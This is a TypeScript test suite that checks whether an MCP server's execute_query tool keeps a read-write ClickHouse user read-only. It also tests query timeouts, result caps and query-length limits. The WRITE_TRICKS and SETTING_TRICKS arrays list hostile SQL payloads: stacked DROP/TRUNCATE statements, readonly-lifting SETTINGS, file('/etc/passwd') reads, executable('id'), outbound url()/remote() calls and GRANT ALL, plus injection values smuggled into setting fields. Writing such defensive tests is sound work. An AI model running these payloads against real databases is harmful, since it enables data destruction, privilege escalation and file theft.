/**
 * Hostile SQL through execute_query, as a read-write ClickHouse user so that nothing but the
 * server's read-only path stands in the way: every trick to write, to change settings or to reach
 * out of ClickHouse must fail and leave no trace; queries that would run forever or return
 * everything are stopped by the limits (including for users whose profile refuses per-query
 * settings); SQL text over the limit never reaches ClickHouse. A recording proxy sits between the
 * server and ClickHouse to tell which layer refused what.
 */
import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { harness, type TestDatabase, useTestDatabase } from "@mcp/test-harness";
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  connectClient,
  harnessClaims,
  mcpUrl,
  startTestServer,
  structuredOf,
  type TestServer,
  textOf,
} from "../../src/test-support/http-fixture.js";
import {
  adminCommand,
  adminRows,
  ClientTexts,
  expectNoSecrets,
  type RecordingProxy,
  reportFigures,
  runningWith,
  startRecordingProxy,
  unique,
  waitUntil,
} from "../../src/test-support/reliability.js";

const shown = new ClientTexts();
let server: TestServer;
let db: TestDatabase;
let proxy: RecordingProxy;
let canary: Server;
let canaryHits = 0;
let canaryPort = 0;
const clients: Client[] = [];
let callCount = 0;

const MAX_RESULT_BYTES = 256 * 1024;
const MAX_QUERY_LENGTH = 100_000;

beforeAll(async () => {
  db = await useTestDatabase();
  await db.client.command({
    query: "CREATE TABLE canary (id UInt32, name String) ENGINE = MergeTree ORDER BY id",
  });
  await db.client.command({ query: "INSERT INTO canary VALUES (1, 'one'), (2, 'two'), (3, 'three')" });
  canary = createServer((_request, response) => {
    canaryHits++;
    response.end("a\n");
  });
  await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
  canaryPort = (canary.address() as { port: number }).port;
  proxy = await startRecordingProxy();
  server = await startTestServer({
    limits: { maxResultBytes: MAX_RESULT_BYTES, maxQueryLength: MAX_QUERY_LENGTH, maxExecutionTime: 60 },
  });
  // The read-write user, through the proxy: the server's read-only path is the only defence.
  const token = await server.mint({ ...harnessClaims("password"), port: proxy.port, database: db.name });
  clients.push(await connectClient("http", mcpUrl(server.url, "http", token)));
  clients.push(await connectClient("sse", mcpUrl(server.url, "sse", token)));
});

afterAll(async () => {
  for (const client of clients) await client.close();
  await server?.close();
  await proxy?.[Symbol.asyncDispose]();
  canary?.close();
  await db?.[Symbol.asyncDispose]();
});

async function run(
  query: string,
  settings?: Record<string, unknown>,
  client = clients[callCount % clients.length] as Client,
): Promise<{ isError: boolean; text: string; structured: string; ms: number }> {
  callCount++;
  const started = Date.now();
  const result = await client.callTool({
    name: "execute_query",
    arguments: settings ? { query, settings } : { query },
  });
  const text = textOf(result);
  shown.add(text);
  return {
    isError: result.isError === true,
    text,
    structured: structuredOf(result),
    ms: Date.now() - started,
  };
}

/** The statements; `{M}` is replaced by a marker unique to the statement. */
const WRITE_TRICKS: string[] = [
  "INSERT INTO canary VALUES (99, '{M}')",
  "insert into canary values (99, '{M}')",
  "INSERT/**/INTO canary VALUES (99, '{M}')",
  "  \n\t INSERT INTO canary VALUES (99, '{M}')",
  "SELECT 1; INSERT INTO canary VALUES (99, '{M}')",
  "SELECT 1;INSERT INTO canary VALUES (99, '{M}');",
  "SELECT '{M}' AS x; TRUNCATE TABLE canary",
  "/* SELECT */ INSERT INTO canary VALUES (99, '{M}')",
  "/* /* nested */ SELECT */ INSERT INTO canary VALUES (99, '{M}')",
  "-- SELECT\nINSERT INTO canary VALUES (99, '{M}')",
  "# SELECT\nINSERT INTO canary VALUES (99, '{M}')",
  "// SELECT\nINSERT INTO canary VALUES (99, '{M}')",
  "SELECT 1 /* ; */ ; DROP TABLE canary -- {M}",
  "SELECT ';' ; DROP TABLE canary -- {M}",
  "SELECT '\\';' ; DROP TABLE canary -- {M}",
  "SELECT `a;b` FROM (SELECT 1 AS `a;b`); DROP TABLE canary -- {M}",
  "SELECT $$;$$ ; DROP TABLE canary -- {M}",
  "SELECT $tag$ ; $tag$; DROP TABLE canary -- {M}",
  "(INSERT INTO canary VALUES (99, '{M}'))",
  "((SELECT 1)); INSERT INTO canary VALUES (99, '{M}')",
  "WITH x AS (SELECT 1) INSERT INTO canary SELECT 99, '{M}'",
  "INSERT INTO canary WITH '{M}' AS m SELECT 99, m",
  "WITH (SELECT 1) AS x SELECT x; INSERT INTO canary VALUES (99, '{M}')",
  "SHOW TABLES; DROP TABLE canary -- {M}",
  "EXPLAIN SELECT 1; DROP TABLE canary -- {M}",
  "DESCRIBE canary; ALTER TABLE canary DELETE WHERE 1 -- {M}",
  "INSERT INTO canary SELECT 99, '{M}' SETTINGS readonly = 0",
  "SELECT 1 SETTINGS readonly = 0 -- {M}",
  "SELECT 1 SETTINGS readonly = 2, allow_ddl = 1 -- {M}",
  "SET readonly = 0 -- {M}",
  "SET allow_ddl = 1 -- {M}",
  "INSERT INTO FUNCTION file('rel_{M}.csv', 'CSV', 'a String') SELECT '{M}'",
  "INSERT INTO FUNCTION url('http://127.0.0.1:{CANARY}/{M}', 'CSV', 'a String') SELECT '{M}'",
  "INSERT INTO FUNCTION remote('127.0.0.1:{TCP}', {DB}.canary) SELECT 99, '{M}'",
  "SELECT * FROM url('http://127.0.0.1:{CANARY}/{M}', CSV, 'a String')",
  "SELECT * FROM url('http://127.0.0.1:{CANARY}/{M}', 'CSV', 'a String') SETTINGS readonly = 0",
  "SELECT * FROM s3('http://127.0.0.1:{CANARY}/{M}.csv', 'CSV', 'a String')",
  "SELECT * FROM file('/etc/passwd', 'LineAsString') -- {M}",
  "SELECT * FROM file('../../../../etc/passwd', 'LineAsString') -- {M}",
  "SELECT * FROM remote('127.0.0.1:{TCP}', system.one) -- {M}",
  "SELECT * FROM remoteSecure('127.0.0.1:{TCP}', system.one) -- {M}",
  "SELECT * FROM executable('id', 'CSV', 'a String') -- {M}",
  "SELECT * FROM mysql('127.0.0.1:{CANARY}', 'd', 't', 'u', 'p') -- {M}",
  "SELECT * FROM postgresql('127.0.0.1:{CANARY}', 'd', 't', 'u', 'p') -- {M}",
  "SELECT * FROM jdbc('jdbc:mysql://127.0.0.1:{CANARY}/', 'd', 't') -- {M}",
  "SELECT * FROM hdfs('hdfs://127.0.0.1:{CANARY}/{M}', 'CSV', 'a String')",
  "SELECT * FROM canary INTO OUTFILE '/tmp/rel_{M}.csv'",
  "CREATE TABLE evil_{M} ENGINE = Memory AS SELECT 1 AS x",
  "CREATE TABLE evil_{M} AS canary",
  "CREATE TEMPORARY TABLE evil_{M} (x UInt8)",
  "CREATE VIEW evil_{M} AS SELECT * FROM canary",
  "CREATE DATABASE evil_{M}",
  "CREATE USER evil_{M}",
  "CREATE DICTIONARY evil_{M} (id UInt64) PRIMARY KEY id SOURCE(HTTP(url 'http://127.0.0.1:{CANARY}/' format 'CSV')) LAYOUT(FLAT()) LIFETIME(0)",
  "DROP TABLE canary -- {M}",
  "DROP DATABASE {DB} -- {M}",
  "TRUNCATE canary -- {M}",
  "DELETE FROM canary WHERE 1 -- {M}",
  "UPDATE canary SET name = '{M}' WHERE 1",
  "ALTER TABLE canary DELETE WHERE 1 -- {M}",
  "ALTER TABLE canary UPDATE name = '{M}' WHERE 1",
  "ALTER TABLE canary ADD COLUMN evil_{M} UInt8",
  "RENAME TABLE canary TO evil_{M}",
  "EXCHANGE TABLES canary AND evil_{M}",
  "OPTIMIZE TABLE canary FINAL -- {M}",
  "DETACH TABLE canary -- {M}",
  "ATTACH TABLE evil_{M} (x UInt8) ENGINE = Memory",
  "UNDROP TABLE evil_{M}",
  "BACKUP TABLE canary TO File('rel_{M}')",
  "SYSTEM DROP DNS CACHE -- {M}",
  "SYSTEM SHUTDOWN -- {M}",
  "KILL QUERY WHERE 1 -- {M}",
  "GRANT ALL ON *.* TO password_user -- {M}",
  "REVOKE ALL ON *.* FROM password_user -- {M}",
  "USE system -- {M}",
  "ＩＮＳＥＲＴ INTO canary VALUES (99, '{M}')",
  "SELECT 1 UNION ALL (INSERT INTO canary VALUES (99, '{M}'))",
  "SELECT * FROM canary WHERE name = '' OR 1=1; DROP TABLE canary -- {M}",
];

/** Settings a model might try through the tool's `settings` argument. */
const SETTING_TRICKS: Record<string, unknown>[] = [
  { readonly: 0 },
  { readonly: "0" },
  { allow_ddl: 1 },
  { max_execution_time: 0 },
  { max_result_rows: 0 },
  { max_memory_usage: 0 },
  { result_overflow_mode: "throw" },
  { "max_threads&readonly": 0 },
  { max_threads: "1&readonly=0" },
  { max_threads: "1; DROP TABLE canary" },
  { join_algorithm: "hash', readonly='0" },
];

async function canaryState(): Promise<string> {
  const rows = await adminRows<{ n: string; h: string }>(
    `SELECT count() AS n, groupBitXor(cityHash64(id, name)) AS h FROM ${db.name}.canary`,
  );
  return JSON.stringify(rows);
}

describe("hostile SQL through execute_query", () => {
  it(`refuses ${WRITE_TRICKS.length} tricks to write, change settings or reach out, with no trace`, async () => {
    const before = await canaryState();
    const h = harness();
    const refusedByServer: string[] = [];
    const refusedByClickHouse: string[] = [];
    const markers: string[] = [];
    for (const trick of WRITE_TRICKS) {
      const marker = unique("hostile");
      markers.push(marker);
      const sql = trick
        .replaceAll("{M}", marker)
        .replaceAll("{CANARY}", String(canaryPort))
        .replaceAll("{TCP}", String(h.tcpPort))
        .replaceAll("{DB}", db.name);
      const result = await run(sql);
      expect(result.isError, `${sql} -> ${result.text}`).toBe(true);
      expect(result.text).toMatch(/^Error (READ_ONLY_VIOLATION|INVALID_QUERY|QUERY_FAILED)\b/);
      (proxy.saw(marker) ? refusedByClickHouse : refusedByServer).push(trick);
    }
    for (const settings of SETTING_TRICKS) {
      const result = await run("SELECT name FROM canary ORDER BY id", settings);
      expect(result.isError, `${JSON.stringify(settings)} -> ${result.text}`).toBe(true);
      // Names outside the allowed few fail the tool's input schema; odd values of allowed ones, ours.
      expect(result.text).toMatch(
        /^(Error (SETTING_NOT_ALLOWED|QUERY_FAILED|INVALID_ARGUMENT)\b|Input validation error: .*settings: Unrecognized key)/,
      );
    }
    // Still read-only afterwards: no SET stuck to the pooled client or the session.
    const after = await run(`INSERT INTO canary VALUES (100, '${unique("after")}')`);
    expect(after.isError).toBe(true);
    // And reads still work.
    const read = await run("SELECT name FROM canary ORDER BY id");
    expect(read.structured).toContain('"rows":[{"name":"one"},{"name":"two"},{"name":"three"}]');

    expect(await canaryState()).toBe(before);
    const traces = await adminRows<{ full: string }>(
      "SELECT concat(database, '.', name) AS full FROM system.tables WHERE name LIKE 'evil%' OR database LIKE 'evil%' OR (database = {db:String} AND name != 'canary')",
      { db: db.name },
    );
    expect(traces).toEqual([]);
    const users = await adminRows("SELECT name FROM system.users WHERE name LIKE 'evil%'");
    expect(users).toEqual([]);
    expect(canaryHits).toBe(0);
    for (const marker of markers) expect(existsSync(`/tmp/rel_${marker}.csv`)).toBe(false);
    // Some tricks are caught before the network, the rest by ClickHouse's own readonly=1.
    expect(refusedByServer.length).toBeGreaterThan(0);
    reportFigures("hostile SQL", {
      "write tricks": WRITE_TRICKS.length,
      "setting tricks": SETTING_TRICKS.length,
      "refused by the server (never sent)": refusedByServer.length,
      "refused by ClickHouse readonly": refusedByClickHouse.length,
      "rows changed": 0,
      "objects created": 0,
      "outbound requests": canaryHits,
    });
  }, 120_000);

  it("stops queries that would run forever or exhaust memory, whatever the user's profile", async () => {
    // A one-second limit from the token; readonly1 users cannot be sent any setting and readonly2
    // users can lift it in their SQL, so only the client-side deadline stops those two.
    const cases = [
      { user: "password", sql: "SELECT count() FROM numbers(100000000000000) WHERE NOT ignore('M')" },
      {
        user: "password",
        sql: "SELECT uniqExact(number) FROM numbers(100000000000000) WHERE NOT ignore('M')",
      },
      {
        user: "password",
        sql: "SELECT groupArray(number) FROM numbers(100000000000000) WHERE NOT ignore('M')",
      },
      { user: "readonly1", sql: "SELECT count() FROM numbers(100000000000000) WHERE NOT ignore('M')" },
      { user: "readonly2", sql: "SELECT count() FROM numbers(100000000000000) WHERE NOT ignore('M')" },
      {
        user: "readonly2",
        sql: "SELECT uniqExact(number) FROM numbers(100000000000000) WHERE NOT ignore('M')",
      },
    ] as const;
    // A readonly=2 profile would let the query's own SETTINGS lift the limits: such SQL is refused
    // before it is sent, whatever the profile.
    {
      // Through the recording proxy, so "never sent" is observed, not assumed.
      const token = await server.mint({
        ...harnessClaims("readonly2"),
        port: proxy.port,
        max_execution_time: 1,
      });
      await using client = await connectClient("http", mcpUrl(server.url, "http", token));
      const control = unique("control");
      expect((await run(`SELECT '${control}' AS m`, undefined, client)).isError).toBe(false);
      expect(proxy.saw(control)).toBe(true);
      for (const settings of ["max_execution_time = 0", "max_execution_time = 0, max_memory_usage = 0"]) {
        const marker = unique("lift");
        const lifted = await run(
          `SELECT count() FROM numbers(100000000000000) WHERE NOT ignore('${marker}') SETTINGS ${settings}`,
          undefined,
          client,
        );
        expect(lifted.text).toMatch(
          /^Error READ_ONLY_VIOLATION: the setting "max_execution_time" is not allowed/,
        );
        expect(proxy.saw(marker)).toBe(false);
      }
    }
    // All at once, one thread each: the limits must hold under contention too.
    const stoppedMs = await Promise.all(
      cases.map(async ({ user, sql }) => {
        const token = await server.mint({ ...harnessClaims(user), max_execution_time: 1 });
        await using client = await connectClient("http", mcpUrl(server.url, "http", token));
        const marker = unique("limit");
        const result = await run(sql.replace("'M'", `'${marker}'`), { max_threads: 1 }, client);
        expect(result.isError, result.text).toBe(true);
        expect(result.text).toMatch(
          /^Error (QUERY_TIMEOUT|QUERY_FAILED \(ClickHouse 241 MEMORY_LIMIT_EXCEEDED\))/,
        );
        expect(result.ms).toBeLessThan(15_000);
        await waitUntil(
          async () => (await runningWith(marker)) === 0,
          `${marker} is no longer running`,
          10_000,
        );
        return result.ms;
      }),
    );
    reportFigures("runaway queries", {
      queries: cases.length,
      "limit s": 1,
      "slowest stop ms": Math.max(...stoppedMs),
    });
  }, 120_000);

  it("cuts results that would be huge to the row and byte caps, and refuses SQL that would lift ClickHouse's", async () => {
    const token = await server.mint({ ...harnessClaims("readonly2"), database: db.name });
    await using client = await connectClient("sse", mcpUrl(server.url, "sse", token));
    // The lifting attempts go through the recording proxy, so "never sent" is observed.
    const watched = await server.mint({ ...harnessClaims("readonly2"), port: proxy.port, database: db.name });
    await using watchedClient = await connectClient("sse", mcpUrl(server.url, "sse", watched));
    const control = unique("control");
    expect((await run(`SELECT '${control}' AS m`, undefined, watchedClient)).isError).toBe(false);
    expect(proxy.saw(control)).toBe(true);
    for (const settings of [
      "max_result_bytes = 0, max_result_rows = 0",
      "max_result_rows = 0",
      "max_result_rows = 0, result_overflow_mode = 'throw'",
    ]) {
      const marker = unique("lift");
      const lifted = await run(
        `SELECT repeat('x', 2000) AS s, '${marker}' AS m FROM numbers(1000000000) SETTINGS ${settings}`,
        undefined,
        watchedClient,
      );
      expect(lifted.text).toMatch(
        /^Error READ_ONLY_VIOLATION: the setting "(max_result_bytes|max_result_rows)"/,
      );
      expect(proxy.saw(marker)).toBe(false);
    }
    const marker = unique("bytes");
    // About two terabytes of result: the byte cap ends it after the first 256 KiB.
    const bytes = await run(
      `SELECT repeat('x', 2000) AS s, '${marker}' AS m FROM numbers(1000000000)`,
      undefined,
      client,
    );
    expect(bytes.isError, bytes.text.slice(0, 300)).toBe(false);
    const cut = `"truncated":{"reason":"bytes","limit":${MAX_RESULT_BYTES}}`;
    expect(bytes.structured.includes(cut), bytes.text.slice(-400)).toBe(true);
    await waitUntil(async () => (await runningWith(marker)) === 0, `${marker} is no longer running`, 10_000);
    const rows = await run("SELECT number FROM numbers(1000000000)", undefined, client);
    expect(rows.structured.includes('"rowCount":500,'), rows.text.slice(-400)).toBe(true);
    expect(rows.structured.includes('"truncated":{"reason":"rows","limit":500}'), rows.text.slice(-400)).toBe(
      true,
    );
  });

  it("refuses SQL text over --clickhouse-max-query-length before it reaches ClickHouse", async () => {
    const tooLong = unique("too_long");
    const padding = (bytes: number) => `/* ${"x".repeat(bytes)} */`;
    const refused = await run(`SELECT '${tooLong}' AS m ${padding(MAX_QUERY_LENGTH)}`);
    expect(refused.isError).toBe(true);
    expect(refused.text).toMatch(/^Error QUERY_TOO_LARGE\b/);
    // Counted in bytes: 60 000 two-byte characters are 120 000 bytes.
    const wide = unique("too_wide");
    const refusedWide = await run(`SELECT '${wide}' AS m /* ${"é".repeat(60_000)} */`);
    expect(refusedWide.text).toMatch(/^Error QUERY_TOO_LARGE\b/);
    // The control: a long query under the limit does reach ClickHouse, so the proxy would have seen it.
    const fits = unique("fits");
    const accepted = await run(`SELECT '${fits}' AS m ${padding(MAX_QUERY_LENGTH - 200)}`);
    expect(accepted.isError, accepted.text).toBe(false);
    expect(proxy.saw(fits)).toBe(true);
    expect(proxy.saw(tooLong)).toBe(false);
    expect(proxy.saw(wide)).toBe(false);
    // ClickHouse's own record agrees: the control is in system.query_log, the refused ones are not.
    await adminCommand("SYSTEM FLUSH LOGS");
    const logged = await adminRows<{ marker: string; n: string }>(
      `SELECT marker, countIf(position(query, marker) > 0) AS n
       FROM system.query_log ARRAY JOIN [{a:String}, {b:String}, {c:String}] AS marker
       WHERE event_time > now() - INTERVAL 10 MINUTE AND position(query, 'system.query_log') = 0
       GROUP BY marker ORDER BY marker`,
      { a: fits, b: tooLong, c: wide },
    );
    expect(Object.fromEntries(logged.map((row) => [row.marker, Number(row.n)]))).toEqual({
      [fits]: 2,
      [tooLong]: 0,
      [wide]: 0,
    });
  });

  it("leaks no token, password or secret into the logs or the answers", () => {
    expectNoSecrets("the server log", [server.logText()]);
    expectNoSecrets("an answer", shown.all());
    reportFigures("hostile SQL totals", {
      "tool calls": callCount,
      "bytes sent to ClickHouse": proxy.bytesSent(),
    });
  });
});
